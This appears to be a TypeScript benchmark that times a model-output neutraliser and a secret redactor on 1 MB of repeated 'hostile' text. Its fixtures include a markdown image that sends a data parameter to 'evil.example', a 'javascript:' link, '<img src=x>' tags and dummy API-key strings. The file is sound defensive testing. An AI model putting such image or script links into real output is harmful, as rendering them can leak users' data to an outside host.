// The neutraliser and the redactor on 1 MB of hostile text (#12 items 3–4): every shape that
// used to be quadratic or that makes the most pieces, timed alone, the worst one reported.
import { neutralizeModelText } from '../src/trust/output.js';
import { redactSecrets } from '../src/trust/redact.js';

const SIZE = 1_000_000;

/** Hostile units: runs of word characters (the old quadratic), dense mentions/refs/links/escapes,
 * backtick runs, unmatched tags, a million lines, a mixed payload. */
export const HOSTILE_UNITS: Record<string, string> = {
  letters: 'a',
  'dotted run': '.',
  mentions: '@a ',
  'at + slash': '@/',
  'email-like': 'a@',
  refs: '#1 ',
  links: '[a](b) ',
  images: '![a](https://evil.example/p?d=1)',
  'bare urls': 'https://a.example/x ',
  'url with parens': 'https://x)',
  backslashes: '\\',
  'code spans with pipes': '`|',
  'unmatched ticks': '`a',
  'empty lines': '\n',
  'command lines': '/cmd\n',
  entities: '&#64;',
  tags: '<img src=x>',
  markers: '<!-- done-gate:report:x -->',
  mixed:
    '@alice #5 ![x](https://evil.example/?d=1) <img src=x> <!-- done-gate:report:x --> `a` [l](javascript:x) \\ ',
};

export function hostileText(unit: string, size = SIZE): string {
  return unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
}

function cpuMs(work: () => void): number {
  const before = process.cpuUsage();
  work();
  const used = process.cpuUsage(before);
  return (used.user + used.system) / 1000;
}

export interface NeutraliseResult {
  worst: { shape: string; ms: number };
  perShape: Array<{ shape: string; ms: number }>;
  redactMs: number;
}

/** CPU time (not wall: the machine may be shared) of each 1 MB shape, and of the redactor. */
export function measureNeutraliser(): NeutraliseResult {
  neutralizeModelText(hostileText(HOSTILE_UNITS.mixed ?? '', 10_000)); // warm-up
  const perShape = Object.entries(HOSTILE_UNITS).map(([shape, unit]) => {
    const text = hostileText(unit);
    return { shape, ms: cpuMs(() => neutralizeModelText(text)) };
  });
  const worst = perShape.reduce((a, b) => (b.ms > a.ms ? b : a));
  const secrets = [
    'sk-ant-api03-benchAnthropicKey0000000000000001',
    'sk-proj-benchOpenAIKey00000000000000000000002',
    'AIzaSyBenchGoogleKey000000000000000000000003',
    'ghs_16C7e42F292c6912E7710c838347Ae178B4a',
  ];
  const mixed = hostileText(HOSTILE_UNITS.mixed ?? '');
  const redactMs = cpuMs(() => redactSecrets(mixed, secrets));
  return { worst, perShape, redactMs };
}
